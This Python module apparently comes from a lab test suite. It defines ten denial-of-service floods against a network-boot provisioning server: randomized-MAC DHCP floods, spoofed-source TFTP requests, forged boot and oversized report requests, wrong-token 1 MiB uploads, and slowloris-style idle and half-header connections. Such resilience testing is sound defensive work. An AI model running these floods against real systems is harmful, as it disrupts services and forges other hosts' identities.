"""Floods of the attacker. Each runs in processes of its own until they are ended."""

import json
import os
import random
import select
import socket
import struct
import time

from claims import own
from lab import ATTACKER, MACS, MORE, OWN, PORT, SERVER, SERVER_MAC, VICTIM, As, frame, own_address, own_mac, packet_socket
from web import Web


def random_mac():
    return "06:" + ":".join(f"{random.randrange(256):02x}" for _ in range(5))


def paced(rate):
    """Yields `rate` times a second, as far as this host is fast enough."""
    began, count = time.monotonic(), 0
    while True:
        yield count
        count += 1
        ahead = count / rate - (time.monotonic() - began)
        if ahead > 0.002:
            time.sleep(ahead)


def requests(prepared, make):
    """Requests one after the other on four connections that stay open."""
    webs = []
    with As("attacker"):
        for _ in range(4):
            webs.append(Web((SERVER, PORT), source=ATTACKER))
        while True:
            for web in webs:
                try:
                    web.request(*make(prepared))
                except OSError:
                    web.close()


def dhcp(prepared):
    """DISCOVER of firmware with invented MACs, 5,000 a second."""
    options = bytes([53, 1, 1, 93, 2, 0, 7, 94, 3, 1, 3, 16, 60, 32]) + b"PXEClient:Arch:00007:UNDI:003016\xff"
    raw = packet_socket()
    for _ in paced(5_000):
        mac = random_mac()
        bootp = struct.pack("!4B4s2H16s", 1, 1, 6, 0, os.urandom(4), 0, 0x8000, b"")
        bootp += bytes.fromhex(mac.replace(":", "")).ljust(16, b"\0") + bytes(192)
        payload = bootp + b"\x63\x82\x53\x63" + options
        try:
            raw.send(frame("ff:ff:ff:ff:ff:ff", mac, ("0.0.0.0", 68), ("255.255.255.255", 67), payload))
        except OSError:
            pass


def forged_boots(prepared):
    """Boots of invented machines."""
    requests(prepared, lambda _: ("GET", f"/boot?mac={random_mac()}&boot=f"))


def growing(prepared):
    """Boots of one undeclared machine with always another board and other NICs, from its own NIC."""
    web = None
    while True:
        try:
            web = web or own(0)
            macs = "&mac=".join(random_mac() for _ in range(63))
            serial = random.randrange(1 << 60)
            web.get(f"/boot?mac={own_mac(0)}&mac={macs}&serial=S{serial}&manufacturer=M{serial}&boot=g{serial}")
        except OSError:
            web = None


def big_reports(prepared):
    """The largest reports, always with other facts, of sixteen undeclared machines and as often as the server permits."""
    webs = [None] * OWN
    for count in paced(OWN / 1.01):
        number = count % OWN
        facts = {f"f{random.randrange(10**9)}": "x" * 256 for _ in range(250)}
        facts["nics"] = [{"mac": random_mac()} for _ in range(64)]
        body = json.dumps({"version": 1, "facts": {"custom": facts}}).encode()
        try:
            webs[number] = webs[number] or own(number)
            webs[number].request("POST", f"/c/{prepared.check_in[number]}/report", body)
        except OSError:
            webs[number] = None


def wrong_tokens(prepared):
    """1,000 connections that send bodies of 1 MiB with wrong tokens, again and again."""
    part = b"x" * 65_536
    length = 1 << 20
    head = f"POST /c/%032x/report HTTP/1.1\r\nHost: {SERVER}:{PORT}\r\nContent-Length: {length}\r\n\r\n"
    poll, streams = select.epoll(), {}

    def begin():
        stream = socket.socket()
        stream.setblocking(False)
        stream.bind((random.choice([ATTACKER, *MORE]), 0))
        stream.connect_ex((SERVER, PORT))
        streams[stream.fileno()] = [stream, (head % random.getrandbits(128)).encode()]
        poll.register(stream.fileno(), select.EPOLLIN | select.EPOLLOUT)

    with As("attacker"):
        for _ in range(1_000):
            begin()
        while True:
            for number, event in poll.poll(1):
                stream, rest = streams[number]
                try:
                    if event & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR):
                        raise ConnectionError
                    sent = stream.send(rest or part)
                    streams[number][1] = rest[sent:]
                except BlockingIOError:
                    pass
                except OSError:
                    poll.unregister(number)
                    stream.close()
                    del streams[number]
                    begin()


def log_lines(prepared):
    """Log lines with the token of a running installation."""
    requests(prepared, lambda prepared: ("GET", f"/t/{prepared.token}/log/info/{'x' * 500}"))


def callback_facts(prepared):
    """Facts with the token of a running installation."""
    requests(prepared, lambda prepared: ("GET", f"/t/{prepared.token}/fact/f{random.randrange(10**9)}/{'x' * 900}"))


def tftp_pairs(prepared):
    """Requests in the name of other addresses and ports, 300 a second."""
    raw = packet_socket()
    for _ in paced(300):
        source = random.choice([VICTIM, *(f"10.77.0.{random.randrange(2, 99)}" for _ in range(3))])
        payload = b"\0\1snponly.efi\0octet\0blksize\x001468\0"
        raw.send(frame(SERVER_MAC, MACS["attacker"], (source, random.randrange(1024, 65_536)), (SERVER, 69), payload))


def connections(first):
    """5,000 connections that send `first` and nothing else."""
    streams = []
    with As("attacker"):
        for number in range(5_000):
            stream = socket.socket()
            stream.settimeout(2)
            stream.bind(([ATTACKER, *MORE][number % 6], 0))
            try:
                stream.connect((SERVER, PORT))
                stream.sendall(first)
            except OSError:
                continue
            streams.append(stream)
    time.sleep(600)


def idle(prepared):
    connections(b"")


def half_heads(prepared):
    connections(b"GET /boot HTTP/1.1\r\nX: " + b"x" * 8_000)


FLOODS = [
    ("DHCP of invented machines, 5,000/s", dhcp),
    ("boots of invented machines", forged_boots),
    ("boots with a growing identity", growing),
    ("reports of 64 KiB", big_reports),
    ("1,000 wrong tokens with 1 MiB", wrong_tokens),
    ("log lines", log_lines),
    ("facts by callback", callback_facts),
    ("forged TFTP requests, 300/s", tftp_pairs),
    ("5,000 idle connections", idle),
    ("5,000 half requests of 8 KB", half_heads),
]
